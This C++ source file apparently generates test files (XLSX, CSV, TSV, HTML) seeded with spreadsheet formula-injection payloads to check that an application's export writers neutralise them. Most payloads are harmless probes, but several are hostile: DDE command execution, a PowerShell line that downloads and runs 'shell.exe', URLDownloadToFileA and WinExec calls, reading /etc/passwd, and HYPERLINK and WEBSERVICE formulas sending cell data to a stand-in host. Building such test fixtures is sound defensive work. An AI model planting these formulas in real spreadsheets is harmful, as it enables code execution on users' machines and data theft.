#include "injection.h"

#include "app/clipboard_cells.h"
#include "app/import_report.h"
#include "documents_io/xlsx_tables.h"
#include "documents_io/xlsx_writer.h"

#include <cstdio>
#include <fstream>
#include <span>
#include <string_view>

namespace bb::samples {
namespace {

constexpr std::string_view payloads[] = {
    // The four signs.
    "=1+1",
    "=1",
    "@1",
    "x;=1",
    "=2*3",
    "=\"a\"&\"b\"",
    "=A1",
    "=$A$1:$B$2",
    "=SUM(A1:B9)",
    "=NOW()",
    "=TRUE()",
    "=#REF!",
    "={1,2;3,4}",
    "==1+1",
    "=-1+2",
    "=+1+1",
    "=@SUM(1,1)",
    "=(1+1)",
    "= 1+1",
    "=1+1;=2+2",
    "=1+1,=2+2",
    "=1+1\t=2+2",
    "+1+1",
    "+1+2*A1",
    "+SUM(1,1)",
    "+A1",
    "++1",
    "+-1",
    "+(1+1)",
    "-1+1",
    "-A1",
    "-SUM(1,1)",
    "--1",
    "-(1+1)",
    "-2+3+cmd|' /C calc'!A0",
    "+49-30-901820",
    "+49 30/901820",
    "-(12)",
    "@SUM(1,1)",
    "@A1",
    "@NOW()",
    "@=1+1",
    // What may stand before them.
    " =1+1",
    "   +A1",
    "\t=1+1",
    "\t+A1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t\n =1+1",
    "\xC2\xA0=1+1",     // no-break space
    "\xE3\x80\x80=1+1", // ideographic space
    "\xEF\xBB\xBF=1+1", // byte order mark
    "\xE2\x80\x8B=1+1", // zero-width space
    "'=1+1",
    ";=1+1",
    "x; =1+1",
    "x\";=1+1",
    "x;\"=1+1\"",
    "\";\n=1+1",
    "\"=1+1\"",
    "\"=1+1",
    "\",=1+1,\"",
    "\"\n=1+1\n\"",
    "x\",=1+1",
    "x\n=1+1",
    "x\r\n=1+1",
    "x\t=1+1",
    "x\t=1+1\ty",
    // Forms of double width.
    "＝1+1",
    "＝1＋1",
    "＋1+1",
    "－1+1",
    "＠SUM(1,1)",
    "＝SUM（1，1）",
    "　＝1＋1",
    "﹦1+1", // small forms
    "﹢1+1",
    "﹣1+1",
    "﹫SUM(1,1)",
    "\xE2\x88\x92"
    "1+1", // minus sign
    // Programs, other files, the network.
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-cmd|' /C calc'!A0",
    "@cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0.invalid/shell.exe)'!A0",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=DDE(\"soffice\",\"/etc/passwd\",\"A1\")",
    "=HYPERLINK(\"http://a.invalid?x=\"&A1,\"Open\")",
    "=HYPERLINK(\"http://a.invalid?x=\"&A1;\"Open\")",
    "=WEBSERVICE(\"http://a.invalid/\"&A1)",
    "=FILTERXML(WEBSERVICE(\"http://a.invalid/\"),\"//a\")",
    "=IMPORTXML(CONCAT(\"http://a.invalid/\",A1),\"//a\")",
    "=IMPORTDATA(\"http://a.invalid/\")",
    "=IMPORTHTML(\"http://a.invalid/\",\"table\",1)",
    "=IMPORTRANGE(\"a.invalid\",\"A1\")",
    "=IMAGE(\"http://a.invalid/a.png\")",
    "='file:///etc/passwd'#$passwd.A1",
    "='\\\\a.invalid\\share\\[book.xlsx]Sheet1'!A1",
    "=EXEC(\"calc\")",
    "=CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCJJ\",0,\"http://a.invalid\",\"a\",0,0)",
    "=REGISTER.ID(\"kernel32\",\"WinExec\")",
    "=INDIRECT(\"A1\")",
    "=INFO(\"directory\")",
    "=CELL(\"filename\")",
    "=RAND()",
    // As XML and HTML would have to carry them.
    "<f>1+1</f>",
    "]]>=1+1",
    "_x003D_1+1",
    "&#61;1+1",
    "</td><td>=1+1",
    "<table><tr><td sdval=\"2\">=1+1</td></tr></table>",
    // What must stay readable all the same.
    "-12.50",
    "+49 30 901820",
    "+49 (30) 901820",
    "008613800000042",
};

std::string hex(std::string_view text) {
    std::string out;
    for (const char c : text) {
        char two[3];
        std::snprintf(two, sizeof two, "%02x", static_cast<unsigned char>(c));
        out += two;
    }
    return out;
}

/// A stroke before and a payload at both ends of the row: the first cell is the one that text
/// formats guard worst.
CellRows rows_of_payloads() {
    CellRows rows;
    for (const std::string_view payload : payloads)
        rows.push_back({std::string(payload), "|", std::string(payload)});
    return rows;
}

SheetModel sheet_of(const CellRows& rows) {
    SheetModel sheet;
    sheet.title = "=1+1";
    sheet.author = "=1+1";
    sheet.created = Date::parse("2026-11-21").value_or(Date{});
    sheet.column_widths = {100, 20, 100};
    sheet.styles = {CellStyle{}};
    for (std::size_t row = 0; row < rows.size(); ++row) {
        sheet.rows.push_back({20, false});
        for (std::size_t column = 0; column < rows[row].size(); ++column) {
            SheetCell cell;
            cell.row = static_cast<std::uint16_t>(row);
            cell.column = static_cast<std::uint16_t>(column);
            cell.kind = SheetCellKind::text;
            cell.text = rows[row][column];
            sheet.cells.push_back(std::move(cell));
        }
    }
    return sheet;
}

NamedTable table_of(const CellRows& rows) {
    NamedTable out;
    out.name = "=1+1";
    for (const auto& row : rows) {
        for (const std::string& cell : row) out.table.add_cell(CellKind::text, cell);
        out.table.end_row();
    }
    return out;
}

std::string as_csv(const CellRows& rows, std::string (*written)(std::string_view)) {
    std::string csv = "\xEF\xBB\xBF";
    for (const auto& row : rows) {
        for (std::size_t i = 0; i < row.size(); ++i) csv += (i > 0 ? "," : "") + written(row[i]);
        csv += "\r\n";
    }
    return csv;
}

/// What a writer that knows nothing of formulas does.
std::string only_quoted(std::string_view text) {
    std::string out = "\"";
    for (const char c : text) out += c == '"' ? std::string("\"\"") : std::string(1, c);
    return out + '"';
}

} // namespace

bool write_injection_files(const std::string& folder) {
    const auto write = [&](const char* name, std::string_view bytes) {
        return bool(std::ofstream(folder + "/" + name, std::ios::binary) << bytes);
    };
    const CellRows rows = rows_of_payloads();
    std::string list;
    for (const std::string_view payload : payloads) list += hex(payload) + "\n";
    const SheetModel sheet = sheet_of(rows);
    const NamedTable table = table_of(rows);
    const Result<Bytes> sheets = write_xlsx(std::span(&sheet, 1));
    const Result<Bytes> tables = write_tables(std::span(&table, 1));
    return sheets.ok() && tables.ok() && write("payloads.hex", list) &&
           write("sheet.xlsx", as_text(*sheets)) && write("tables.xlsx", as_text(*tables)) &&
           write("report.csv", as_csv(rows, csv_cell)) &&
           write("copied.tsv", cells_as_text(rows)) && write("copied.html", cells_as_html(rows)) &&
           write("unguarded.csv", as_csv(rows, only_quoted));
}

} // namespace bb::samples
